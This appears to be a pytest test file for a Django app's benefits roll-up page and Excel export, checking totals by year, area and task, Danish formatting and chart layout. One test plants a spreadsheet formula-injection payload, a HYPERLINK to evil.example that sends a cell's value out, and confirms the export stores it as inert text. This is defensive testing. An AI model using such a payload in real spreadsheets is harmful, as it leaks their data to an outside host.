"""The roll-up under /overblik/: expected against realised by year, area, kind and task."""

import io
import re
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from samskab.accounts import roles
from samskab.benefits import queries, services
from samskab.core.charts import text_width
from samskab.organisation.models import OrgUnit
from samskab.portfolio.models import InnovationTask

NBSP = "\xa0"


@pytest.fixture
def data(make_task, signed, draft_with_line, realise, area, manager):
    """Two signed tasks in two areas, and a draft whose targets must not count."""
    other_area = OrgUnit.objects.create(name="Ældre og Pleje", kind="omraade", parent=area.parent)
    first = make_task("Træn dig fri")
    second = make_task("Digital nattevagt", owning_area=other_area)
    drafted = make_task("Kun et udkast")
    agreement, money = draft_with_line(first)  # 100k 2025, 200k 2026, 300k 2027
    draft_with_line(first, kind="hours", kpi="Frigjorte timer", targets=[(2025, Decimal("500"))])
    services.agreement_sign(agreement=agreement, by=manager)
    _, other = signed(second, targets=[(2025, Decimal("50000")), (2026, Decimal("50000"))])
    draft_with_line(drafted, targets=[(2025, Decimal("999999"))])
    realise(money, "30000", taken_home=True)
    realise(money, "45000", start=date(2025, 4, 1), end=date(2025, 6, 30))
    realise(money, "80000", start=date(2026, 1, 1), end=date(2026, 3, 31))
    realise(other, "60000")
    return {"first": first, "second": second, "drafted": drafted, "other_area": other_area}


def as_dict(rows):
    return {
        row.key if row.key is not None else row.label: (row.expected, row.realised) for row in rows
    }


def test_by_kind_counts_signed_targets_and_every_realisation(data):
    rows = {row.key: row for row in queries.rollup_by_kind()}
    assert rows["economic"].expected == Decimal("700000")
    assert rows["economic"].realised == Decimal("215000")
    assert rows["economic"].taken_home == Decimal("30000")
    assert (rows["hours"].expected, rows["hours"].realised) == (Decimal("500"), Decimal("0"))


def test_by_year(data):
    assert as_dict(queries.rollup_by_year("economic")) == {
        2025: (Decimal("150000"), Decimal("135000")),
        2026: (Decimal("250000"), Decimal("80000")),
        2027: (Decimal("300000"), Decimal("0")),
    }


def test_by_area(data):
    rows = {row.label: (row.expected, row.realised) for row in queries.rollup_by_area("economic")}
    assert rows == {
        "Børn og Skole": (Decimal("600000"), Decimal("155000")),
        "Ældre og Pleje": (Decimal("100000"), Decimal("60000")),
    }


def test_by_task(data):
    rows = {t.title: (t.expected, t.realised) for t in queries.rollup_by_task("economic")}
    assert rows == {
        "Træn dig fri": (Decimal("600000"), Decimal("155000")),
        "Digital nattevagt": (Decimal("100000"), Decimal("60000")),
        "Kun et udkast": (Decimal("0"), Decimal("0")),
    }


def test_tasks_past_phase_3_without_agreement_are_listed(data, make_task, client, personas):
    lacking = make_task("Uden aftale", phase=4)
    make_task("Endnu i fase 3", phase=3)
    assert list(queries.tasks_without_agreement()) == [lacking]
    client.force_login(personas[roles.DIREKTION])
    body = client.get(reverse("benefits:rollup")).content.decode()
    assert "Uden aftale" in body and "Endnu i fase 3" not in body


def test_the_page_shows_the_figures_in_danish(data, client, personas):
    client.force_login(personas[roles.DIREKTION])
    body = client.get(reverse("benefits:rollup")).content.decode()
    assert "700.000" in body and "215.000" in body
    assert "<svg" in body


def test_the_page_shows_kroner_and_shares_to_one_decimal(data, client, personas):
    client.force_login(personas[roles.DIREKTION])

    body = client.get(reverse("benefits:rollup")).content.decode()

    assert f'<td class="text-align-right">700.000{NBSP}kr.</td>' in body  # by kind
    assert f"155.000{NBSP}kr." in body  # by area and by task
    assert f">600.000{NBSP}kr.</text>" in body  # the bars
    assert f"25,8{NBSP}%" in body  # 155,000 of 600,000: not "25 %"
    assert f"500{NBSP}kr." not in body  # the hours freed are no kroner
    hours = client.get(reverse("benefits:rollup"), {"art": "hours"}).content.decode()
    assert '<td class="text-align-right">500</td>' in hours


def test_export_reads_back(data, client, personas):
    client.force_login(personas[roles.DIREKTION])
    response = client.get(reverse("benefits:rollup-export"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    by_kind = list(workbook.worksheets[0].iter_rows(values_only=True))
    assert by_kind[0] == ("Type", "Forventet", "Realiseret", "Realiseret af forventet", "Hjemtaget")
    economic = next(row for row in by_kind if row[0] == "Økonomisk (kr.)")
    assert economic[1:] == (700000, 215000, pytest.approx(215 / 700), 30000)
    by_year = list(workbook.worksheets[1].iter_rows(values_only=True))
    assert ("Økonomisk (kr.)", 2026, 250000, 80000, 0.32) in by_year
    by_task = list(workbook.worksheets[3].iter_rows(values_only=True))
    assert (
        "Økonomisk (kr.)",
        "Digital nattevagt",
        "Ældre og Pleje",
        4,
        100000,
        60000,
        0.6,
    ) in by_task


def test_export_gives_kroner_amounts_and_shares_their_number_format(data, client, personas):
    client.force_login(personas[roles.DIREKTION])
    response = client.get(reverse("benefits:rollup-export"))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))

    for sheet in workbook.worksheets[:4]:
        header = [cell.value for cell in sheet[1]]
        expected = header.index("Forventet")
        share = header.index("Realiseret af forventet")
        for row in sheet.iter_rows(min_row=2):
            kroner = row[0].value == "Økonomisk (kr.)"
            amount_format = '#,##0.00 "kr."' if kroner else "#,##0.00"
            assert row[expected].number_format == amount_format, (sheet.title, row[0].value)
            assert row[expected + 1].number_format == amount_format
            if row[share].value is not None:
                assert row[share].number_format == "0.0%"


def test_export_keeps_a_formula_typed_as_a_title_as_text(data, client, personas):
    attack = '=HYPERLINK("http://evil.example/?t="&B2,"Open")'
    InnovationTask.objects.filter(pk=data["first"].pk).update(title=attack)
    OrgUnit.objects.filter(pk=data["other_area"].pk).update(name="@SUM(1+1)")
    make_lacking = InnovationTask.objects.filter(pk=data["drafted"].pk)
    make_lacking.update(phase=5, title="-2+3")
    client.force_login(personas[roles.DIREKTION])

    response = client.get(reverse("benefits:rollup-export"))

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    typed = [cell for cell in cells if cell.value in (attack, "@SUM(1+1)", "-2+3")]
    assert {cell.value for cell in typed} == {attack, "@SUM(1+1)", "-2+3"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in typed)


def test_the_rollup_costs_the_same_with_3_and_30_tasks(
    client, personas, make_task, signed, realise, django_assert_max_num_queries
):
    client.force_login(personas[roles.DIREKTION])

    def make(n: int, start: int):
        for i in range(start, start + n):
            _, line = signed(make_task(f"Opgave {i}"))
            realise(line, "1000")
            make_task(f"Mangler {i}", phase=5)

    make(3, 0)
    with django_assert_max_num_queries(20) as few:
        assert client.get(reverse("benefits:rollup")).status_code == 200
    make(27, 3)
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(reverse("benefits:rollup")).status_code == 200


def chart_texts(page: str) -> list[tuple[float, list[tuple[float, str, str]]]]:
    """Each bar chart's width and its labels: (x, text-anchor, text)."""
    charts = []
    for width, body in re.findall(
        r'<svg role="img"[^>]*viewBox="0 0 (\d+) \d+"[^>]*>(.*?)</svg>', page, re.S
    ):
        texts = re.findall(
            r'<text x="([\d.]+)"[^>]*font-size="(\d+)"[^>]*text-anchor="(\w+)">([^<]*)</text>', body
        )
        charts.append(
            (float(width), [(float(x), int(size), anchor, text) for x, size, anchor, text in texts])
        )
    return charts


def test_the_bars_stand_on_round_ticks_and_every_figure_fits_the_chart(data, client, personas):
    client.force_login(personas[roles.DIREKTION])

    page = client.get(reverse("benefits:rollup")).content.decode()

    [_by_year, (_width, by_area)] = chart_texts(page)
    ticks = [text for _x, _size, anchor, text in by_area if anchor == "middle"]
    assert ticks == ["0", "200.000", "400.000", "600.000"]
    for width, texts in chart_texts(page):
        for x, size, anchor, text in texts:
            drawn = text_width(text, font_size=size)
            start = {"start": x, "middle": x - drawn / 2, "end": x - drawn}[anchor]
            assert start >= 0 and start + drawn <= width, (text, start, start + drawn, width)
